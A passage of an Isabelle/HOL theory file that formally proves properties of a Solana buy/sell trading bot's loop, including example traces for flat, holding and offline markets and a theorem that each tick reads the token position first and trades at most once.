      have hh: "h1 = h @ ?new" using n1(1) n0(1) by simp
      have tk: "take 1 ?new = [?first]" by simp
      have dj: "(triggers ?new = [] \<and> swaps ?new = [])
                     \<or> (triggers ?new = [TriggerBuy] \<and> length (swaps ?new) \<le> 1)"
        using n1(2) n0(2,3) by (simp add: triggers_append swaps_append)
      have mem: "Rpc (GetBalance (cfg_wallet c)) \<in> set ?new"
        using n2(2) same by simp
      show ?thesis
        apply (intro exI [of _ ?new] conjI)
          apply (rule hh)
         apply (rule tk)
        apply (simp only: Inr sum.case if_not_P [OF False])
        apply (intro conjI)
           apply (rule dj)
          apply (rule mem)
         apply (rule tr [THEN conjunct1])
        apply (rule tr [THEN conjunct2])
        done
    qed
  qed
qed

text \<open>The example ticks: a buy in the flat market, a sell in the holding market, no chain access.\<close>

lemma swap_post_inject [simp]: "(swap_post q payer fee = swap_post q' payer fee) = (q = q')"
  by (auto simp: swap_post_def swap_request_of_def)

lemma swap_post_not_quote [simp]: "swap_post q payer fee \<noteq> quote_request inMint outMint amount slippage"
  by (simp add: swap_post_def quote_request_def)

lemma tick_flat_market_example:
  "tick flat_market example_config []
     = [Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
        Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_2022_PROGRAM_ID),
        Rpc (GetBalance ''WaLLet1111111111111111111111111111111111111''),
        Console (FetchingQuote 0),
        Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
        Console (BuyCheck 1498666), Console TriggerBuy,
        Console (FetchingQuote 0),
        Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
        Console (RequestingSwap 0),
        Fetch (swap_post buy_quote ''WaLLet1111111111111111111111111111111111111'' 1000000),
        Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
        Rpc GetLatestBlockhash,
        Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
        Console (BuyDone ''5sig''),
        Sleep 5000]"
proof -
  have amounts: "BigInt (inAmount buy_quote) = Inr 100000000" "BigInt (outAmount buy_quote) = Inr 66726000"
    by (simp_all add: buy_quote_def BigInt_examples)
  have "tick_try flat_market example_config []
     = ([Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_2022_PROGRAM_ID),
         Rpc (GetBalance ''WaLLet1111111111111111111111111111111111111''),
         Console (FetchingQuote 0),
         Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (BuyCheck 1498666), Console TriggerBuy,
         Console (FetchingQuote 0),
         Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (RequestingSwap 0),
         Fetch (swap_post buy_quote ''WaLLet1111111111111111111111111111111111111'' 1000000),
         Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
         Rpc GetLatestBlockhash,
         Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
         Console (BuyDone ''5sig'')], Inr ())"
    by (simp add: tick_try_def buy_path_def balance_flat_market toString_examples getQuote_first_ok
          amounts buy_example_price pow10_def executeSwapOnce_flat_market swap_post_def plan_def
          Let_def)
  then show ?thesis by (simp add: tick_def Let_def)
qed

lemma tick_holding_market_example:
  "tick holding_market example_config []
     = [Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
        Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_2022_PROGRAM_ID),
        Console (FetchingQuote 0),
        Fetch (quote_request usdc WSOL_MINT ''500000000'' (Some 50)),
        Console (SellCheck 500000000 1700000), Console TriggerSell,
        Console (FetchingQuote 0),
        Fetch (quote_request usdc WSOL_MINT ''500000000'' (Some 50)),
        Console (RequestingSwap 0),
        Fetch (swap_post sell_quote ''WaLLet1111111111111111111111111111111111111'' 1000000),
        Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
        Rpc GetLatestBlockhash,
        Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
        Console (SellDone ''5sig''),
        Console AttemptingClose,
        Rpc (GetAccount (''ata:'' @ TOKEN_PROGRAM_ID @ '':'' @ usdc @ '':''
                          @ ''WaLLet1111111111111111111111111111111111111'')),
        Rpc GetLatestBlockhash,
        Rpc (SendRawTransaction
               (CloseAccountTransaction
                  (''ata:'' @ TOKEN_PROGRAM_ID @ '':'' @ usdc @ '':''
                     @ ''WaLLet1111111111111111111111111111111111111'')
                  ''WaLLet1111111111111111111111111111111111111''
                  ''WaLLet1111111111111111111111111111111111111'' TOKEN_PROGRAM_ID ''9xQeWvG8'')),
        Console (CloseTxSent ''5sig''),
        Sleep 5000]"
proof -
  let ?wallet = "''WaLLet1111111111111111111111111111111111111''"
  let ?Q = "quote_request usdc WSOL_MINT ''500000000'' (Some 50)"
  let ?ata = "''ata:'' @ TOKEN_PROGRAM_ID @ '':'' @ usdc @ '':'' @ ?wallet"
  have amounts: "BigInt (inAmount sell_quote) = Inr 500000000" "BigInt (outAmount sell_quote) = Inr 850000000"
    by (simp_all add: sell_quote_def BigInt_examples)
  have swap: "executeSwapOnce holding_market ?wallet usdc WSOL_MINT ''500000000'' (Some 50) 1000000 hh
     = (hh @ [Console (FetchingQuote 0), Fetch ?Q,
         Console (RequestingSwap 0),
         Fetch (swap_post sell_quote ?wallet 1000000),
         Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
         Rpc GetLatestBlockhash,
         Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150)],
        Inr (''5sig'', sell_quote))" for hh
    by (simp add: executeSwapOnce_def getQuote_first_ok getSwapTransaction_first_ok swap_post_def Let_def)
  have clean: "cleanup holding_market example_config hh
     = hh @ [Console AttemptingClose, Rpc (GetAccount ?ata), Rpc GetLatestBlockhash,
             Rpc (SendRawTransaction
                    (CloseAccountTransaction ?ata ?wallet ?wallet TOKEN_PROGRAM_ID ''9xQeWvG8'')),
             Console (CloseTxSent ''5sig'')]" for hh
    by (simp add: cleanup_def cleanup_try_def send_close_def Let_def)
  have "tick_try holding_market example_config []
     = ([Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_PROGRAM_ID),
         Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_2022_PROGRAM_ID),
         Console (FetchingQuote 0), Fetch ?Q,
         Console (SellCheck 500000000 1700000), Console TriggerSell,
         Console (FetchingQuote 0), Fetch ?Q,
         Console (RequestingSwap 0),
         Fetch (swap_post sell_quote ?wallet 1000000),
         Rpc (SendRawTransaction (SwapTransaction (swapTransaction plan))),
         Rpc GetLatestBlockhash,
         Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
         Console (SellDone ''5sig''),
         Console AttemptingClose, Rpc (GetAccount ?ata), Rpc GetLatestBlockhash,
         Rpc (SendRawTransaction
                (CloseAccountTransaction ?ata ?wallet ?wallet TOKEN_PROGRAM_ID ''9xQeWvG8'')),
         Console (CloseTxSent ''5sig'')], Inr ())"
    by (simp add: tick_try_def sell_path_def balance_holding_market toString_examples
          getQuote_first_ok amounts sell_example_price swap clean Let_def)
  then show ?thesis by (simp add: tick_def Let_def)
qed

lemma tick_offline_example:
  "tick offline example_config []
     = [Rpc (GetParsedTokenAccountsByOwner ''WaLLet1111111111111111111111111111111111111'' usdc
               TOKEN_PROGRAM_ID),
        Console (LoopError ''fetch failed''),
        Sleep 5000]"
  by (simp add: tick_def tick_try_def getTokenBalanceByMint_def addFromProgram_def offline_def Let_def)

text \<open>
  C2. Every iteration of the loop starts by reading the position from the chain: the first
  event of a tick is the first call of \<open>getTokenBalanceByMint\<close> for the wallet and the quote
  mint, and the tick keeps no position state of its own, \<open>holding\<close> being
  \<open>tokenBalanceUnits > 0\<close> for the balance just read. When the balance cannot be read, the
  tick triggers nothing, makes no request and submits nothing. On a tick where the balance
  read is positive no buy is issued: only a sell can be triggered, at most once; the quote
  for the balance read, quote mint to WSOL, is requested; every request of the tick is that
  quote request or a swap-build request for a quote that the service returned for it during
  the tick; and every swap transaction submitted, at most one, is the signed payload of a
  plan that the swap-build service returned for such a swap-build request. On a tick where
  the balance read is not positive no sell is issued: the SOL balance is read, only a buy
  can be triggered, at most once, and the same holds of the requests and of the swap
  transaction with the quote request for the trade size, WSOL to the quote mint.
\<close>

theorem tick_respects_position:
  "\<exists>new. tick w c h = h @ new
     \<and> take 1 new = [Rpc (GetParsedTokenAccountsByOwner (cfg_wallet c) (cfg_quoteMint c) TOKEN_PROGRAM_ID)]
     \<and> (case snd (getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h) of
           Inl e \<Rightarrow> triggers new = [] \<and> requests new = [] \<and> submitted new = []
         | Inr tokenBalanceUnits \<Rightarrow>
             if tokenBalanceUnits > 0
             then ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerSell] \<and> length (swaps new) \<le> 1))
                  \<and> quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                       (cfg_slippageBps c) \<in> set (requests new)
                  \<and> (\<forall>r \<in> set (requests new).
                        r = quote_request (cfg_quoteMint c) WSOL_MINT (toString_int tokenBalanceUnits)
                              (cfg_slippageBps c)
                        \<or> (\<exists>q. r = swap_post q (cfg_wallet c) (cfg_priorityFeeLamports c)
                               \<and> quote_answers w h new
                                   (quote_request (cfg_quoteMint c) WSOL_MINT
                                      (toString_int tokenBalanceUnits) (cfg_slippageBps c)) q))
                  \<and> (\<forall>t \<in> set (swaps new).
                        \<exists>q p. t = SwapTransaction (swapTransaction p)
                              \<and> quote_answers w h new
                                  (quote_request (cfg_quoteMint c) WSOL_MINT
                                     (toString_int tokenBalanceUnits) (cfg_slippageBps c)) q
                              \<and> swap_answers w h new
                                  (swap_post q (cfg_wallet c) (cfg_priorityFeeLamports c)) p)
             else ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerBuy] \<and> length (swaps new) \<le> 1))
                  \<and> Rpc (GetBalance (cfg_wallet c)) \<in> set new
                  \<and> (\<forall>r \<in> set (requests new).
                        r = quote_request WSOL_MINT (cfg_quoteMint c)
                              (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)
                        \<or> (\<exists>q. r = swap_post q (cfg_wallet c) (cfg_priorityFeeLamports c)
                               \<and> quote_answers w h new
                                   (quote_request WSOL_MINT (cfg_quoteMint c)
                                      (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)) q))
                  \<and> (\<forall>t \<in> set (swaps new).
                        \<exists>q p. t = SwapTransaction (swapTransaction p)
                              \<and> quote_answers w h new
                                  (quote_request WSOL_MINT (cfg_quoteMint c)
                                     (toString_int (cfg_inAmountLamports c)) (cfg_slippageBps c)) q
                              \<and> swap_answers w h new
                                  (swap_post q (cfg_wallet c) (cfg_priorityFeeLamports c)) p))"
proof -
  let ?first = "Rpc (GetParsedTokenAccountsByOwner (cfg_wallet c) (cfg_quoteMint c) TOKEN_PROGRAM_ID)"
  let ?Qs = "\<lambda>b. quote_request (cfg_quoteMint c) WSOL_MINT (toString_int b) (cfg_slippageBps c)"
  let ?Qb = "quote_request WSOL_MINT (cfg_quoteMint c) (toString_int (cfg_inAmountLamports c))
               (cfg_slippageBps c)"
  let ?T = "\<lambda>new Q. trades_only w h new Q (cfg_wallet c) (cfg_priorityFeeLamports c)"
  obtain h0 r0 where b: "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h = (h0, r0)"
    by (cases "getTokenBalanceByMint w (cfg_wallet c) (cfg_quoteMint c) h")
  obtain h1 r where t: "tick_try w c h = (h1, r)"
    by (cases "tick_try w c h")
  obtain new where new: "h1 = h @ new" "take 1 new = [?first]"
      "case r0 of
           Inl e \<Rightarrow> triggers new = [] \<and> requests new = [] \<and> submitted new = []
         | Inr tokenBalanceUnits \<Rightarrow>
             if tokenBalanceUnits > 0
             then ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerSell] \<and> length (swaps new) \<le> 1))
                  \<and> ?Qs tokenBalanceUnits \<in> set (requests new)
                  \<and> ?T new (?Qs tokenBalanceUnits)
             else ((triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerBuy] \<and> length (swaps new) \<le> 1))
                  \<and> Rpc (GetBalance (cfg_wallet c)) \<in> set new
                  \<and> ?T new ?Qb"
    using tick_try_position [OF b t] by blast
  obtain tail where tail: "tick w c h = h1 @ tail" "triggers tail = []" "requests tail = []"
      "submitted tail = []"
  proof (cases r)
    case (Inl e)
    let ?tail = "[Console (LoopError (message e)),
                  Sleep (nat (max 0 (cfg_intervalMs c
                           - int (elapsedMs w (h1 @ [Console (LoopError (message e))])))))]"
    have "tick w c h = h1 @ ?tail" using t Inl by (simp add: tick_def Let_def)
    then show ?thesis by (intro that [of ?tail]) simp_all
  next
    case (Inr u)
    let ?tail = "[Sleep (nat (max 0 (cfg_intervalMs c - int (elapsedMs w h1))))]"
    have "tick w c h = h1 @ ?tail" using t Inr by (simp add: tick_def Let_def)
    then show ?thesis by (intro that [of ?tail]) simp_all
  qed
  have st: "swaps tail = []" using tail(4) by (simp add: swaps_def)
  have ne: "new \<noteq> []" using new(2) by auto
  have first: "take 1 (new @ tail) = [?first]" using new(2) ne by (cases new) simp_all
  have run: "tick w c h = h @ (new @ tail)" using tail(1) new(1) by simp
  have keepT: "?T (new @ tail) Q" if "?T new Q" for Q
    using that tail(3) st by (rule trades_only_before)
  have obs: "triggers (new @ tail) = triggers new" "swaps (new @ tail) = swaps new"
      "requests (new @ tail) = requests new" "submitted (new @ tail) = submitted new"
    using tail(2,3,4) st
    by (simp_all add: triggers_append swaps_append requests_append submitted_append)
  show ?thesis
  proof (cases r0)
    case (Inl e)
    then show ?thesis using new(3) run first obs b
      by (intro exI [of _ "new @ tail"]) simp
  next
    case (Inr tokenBalanceUnits)
    show ?thesis
    proof (cases "tokenBalanceUnits > 0")
      case True
      then have p: "(triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerSell] \<and> length (swaps new) \<le> 1)"
          "?Qs tokenBalanceUnits \<in> set (requests new)" "?T new (?Qs tokenBalanceUnits)"
        using new(3) Inr by simp_all
      have k: "?T (new @ tail) (?Qs tokenBalanceUnits)" using p(3) by (rule keepT)
      have d: "(triggers (new @ tail) = [] \<and> swaps (new @ tail) = [])
                   \<or> (triggers (new @ tail) = [TriggerSell] \<and> length (swaps (new @ tail)) \<le> 1)"
        using p(1) obs by simp
      have m: "?Qs tokenBalanceUnits \<in> set (requests (new @ tail))" using p(2) obs by simp
      show ?thesis
        apply (intro exI [of _ "new @ tail"] conjI)
          apply (rule run)
         apply (rule first)
        apply (simp only: b Inr snd_conv sum.case if_P [OF True])
        apply (intro conjI)
           apply (rule d)
          apply (rule m)
         apply (rule k [THEN conjunct1])
        apply (rule k [THEN conjunct2])
        done
    next
      case False
      then have p: "(triggers new = [] \<and> swaps new = [])
                   \<or> (triggers new = [TriggerBuy] \<and> length (swaps new) \<le> 1)"
          "Rpc (GetBalance (cfg_wallet c)) \<in> set new" "?T new ?Qb"
        using new(3) Inr by simp_all
      have k: "?T (new @ tail) ?Qb" using p(3) by (rule keepT)
      have d: "(triggers (new @ tail) = [] \<and> swaps (new @ tail) = [])
                   \<or> (triggers (new @ tail) = [TriggerBuy] \<and> length (swaps (new @ tail)) \<le> 1)"
        using p(1) obs by simp
      have m: "Rpc (GetBalance (cfg_wallet c)) \<in> set (new @ tail)" using p(2) by simp
      show ?thesis
        apply (intro exI [of _ "new @ tail"] conjI)
          apply (rule run)
         apply (rule first)
        apply (simp only: b Inr snd_conv sum.case if_not_P [OF False])
        apply (intro conjI)
           apply (rule d)
          apply (rule m)
         apply (rule k [THEN conjunct1])
        apply (rule k [THEN conjunct2])
        done
    qed
  qed
qed

theorem tick_respects_position_witness:
  "snd (getTokenBalanceByMint flat_market (cfg_wallet example_config) (cfg_quoteMint example_config) [])
     = Inr 0
   \<and> triggers (tick flat_market example_config []) = [TriggerBuy]
   \<and> requests (tick flat_market example_config [])
       = [quote_request WSOL_MINT usdc ''100000000'' (Some 50),
          quote_request WSOL_MINT usdc ''100000000'' (Some 50),
          swap_post buy_quote ''WaLLet1111111111111111111111111111111111111'' 1000000]
   \<and> swaps (tick flat_market example_config []) = [SwapTransaction (swapTransaction plan)]
   \<and> quote_answers flat_market [] (tick flat_market example_config [])
        (quote_request WSOL_MINT usdc ''100000000'' (Some 50)) buy_quote
   \<and> (\<exists>q p. swapTransaction plan = swapTransaction p
          \<and> quote_answers flat_market [] (tick flat_market example_config [])
               (quote_request WSOL_MINT usdc ''100000000'' (Some 50)) q
          \<and> swap_answers flat_market [] (tick flat_market example_config [])
               (swap_post q ''WaLLet1111111111111111111111111111111111111'' 1000000) p)
   \<and> snd (getTokenBalanceByMint holding_market (cfg_wallet example_config)
            (cfg_quoteMint example_config) []) = Inr 500000000
   \<and> triggers (tick holding_market example_config []) = [TriggerSell]
   \<and> requests (tick holding_market example_config [])
       = [quote_request usdc WSOL_MINT ''500000000'' (Some 50),
          quote_request usdc WSOL_MINT ''500000000'' (Some 50),
          swap_post sell_quote ''WaLLet1111111111111111111111111111111111111'' 1000000]
   \<and> swaps (tick holding_market example_config []) = [SwapTransaction (swapTransaction plan)]
   \<and> quote_answers holding_market [] (tick holding_market example_config [])
        (quote_request usdc WSOL_MINT ''500000000'' (Some 50)) sell_quote
   \<and> (\<exists>q p. swapTransaction plan = swapTransaction p
          \<and> quote_answers holding_market [] (tick holding_market example_config [])
               (quote_request usdc WSOL_MINT ''500000000'' (Some 50)) q
          \<and> swap_answers holding_market [] (tick holding_market example_config [])
               (swap_post q ''WaLLet1111111111111111111111111111111111111'' 1000000) p)
   \<and> snd (getTokenBalanceByMint offline (cfg_wallet example_config) (cfg_quoteMint example_config) [])
       = Inl (Error ''fetch failed'')
   \<and> triggers (tick offline example_config []) = []
   \<and> requests (tick offline example_config []) = []
   \<and> submitted (tick offline example_config []) = []"
proof -
  let ?wallet = "''WaLLet1111111111111111111111111111111111111''"
  let ?Qb = "quote_request WSOL_MINT usdc ''100000000'' (Some 50)"
  let ?Qs = "quote_request usdc WSOL_MINT ''500000000'' (Some 50)"
  let ?F = "tick flat_market example_config []"
  let ?H = "tick holding_market example_config []"
  let ?O = "tick offline example_config []"
  have bf: "snd (getTokenBalanceByMint flat_market (cfg_wallet example_config)
                   (cfg_quoteMint example_config) []) = Inr 0"
    by (simp add: balance_flat_market)
  have ef: "triggers ?F = [TriggerBuy]"
      "requests ?F = [?Qb, ?Qb, swap_post buy_quote ?wallet 1000000]"
      "swaps ?F = [SwapTransaction (swapTransaction plan)]"
    by (simp_all add: tick_flat_market_example)
  have tf: "(\<forall>r \<in> set (requests ?F).
               r = ?Qb \<or> (\<exists>q. r = swap_post q ?wallet 1000000 \<and> quote_answers flat_market [] ?F ?Qb q))
          \<and> (\<forall>t \<in> set (swaps ?F).
               \<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers flat_market [] ?F ?Qb q
                     \<and> swap_answers flat_market [] ?F (swap_post q ?wallet 1000000) p)"
    using tick_respects_position [of flat_market example_config "[]"] bf
    by (auto simp: toString_examples)
  have qf: "quote_answers flat_market [] ?F ?Qb buy_quote"
    using tf [THEN conjunct1] ef(2) by auto
  have sf: "\<exists>q p. swapTransaction plan = swapTransaction p
          \<and> quote_answers flat_market [] ?F ?Qb q
          \<and> swap_answers flat_market [] ?F (swap_post q ?wallet 1000000) p"
    using tf [THEN conjunct2] ef(3) by auto
  have bh: "snd (getTokenBalanceByMint holding_market (cfg_wallet example_config)
                   (cfg_quoteMint example_config) []) = Inr 500000000"
    by (simp add: balance_holding_market)
  have eh: "triggers ?H = [TriggerSell]"
      "requests ?H = [?Qs, ?Qs, swap_post sell_quote ?wallet 1000000]"
      "swaps ?H = [SwapTransaction (swapTransaction plan)]"
    by (simp_all add: tick_holding_market_example)
  have th: "(\<forall>r \<in> set (requests ?H).
               r = ?Qs \<or> (\<exists>q. r = swap_post q ?wallet 1000000 \<and> quote_answers holding_market [] ?H ?Qs q))
          \<and> (\<forall>t \<in> set (swaps ?H).
               \<exists>q p. t = SwapTransaction (swapTransaction p) \<and> quote_answers holding_market [] ?H ?Qs q
                     \<and> swap_answers holding_market [] ?H (swap_post q ?wallet 1000000) p)"
    using tick_respects_position [of holding_market example_config "[]"] bh
    by (auto simp: toString_examples)
  have qh: "quote_answers holding_market [] ?H ?Qs sell_quote"
    using th [THEN conjunct1] eh(2) by auto
  have sh: "\<exists>q p. swapTransaction plan = swapTransaction p
          \<and> quote_answers holding_market [] ?H ?Qs q
          \<and> swap_answers holding_market [] ?H (swap_post q ?wallet 1000000) p"
    using th [THEN conjunct2] eh(3) by auto
  have bo: "snd (getTokenBalanceByMint offline (cfg_wallet example_config)
                   (cfg_quoteMint example_config) []) = Inl (Error ''fetch failed'')"
    by (simp add: getTokenBalanceByMint_def addFromProgram_def offline_def Let_def)
  have eo: "triggers ?O = [] \<and> requests ?O = [] \<and> submitted ?O = []"
    using tick_respects_position [of offline example_config "[]"] bo
    by auto
  show ?thesis
    using bf ef qf sf bh eh qh sh bo eo by blast
qed

end
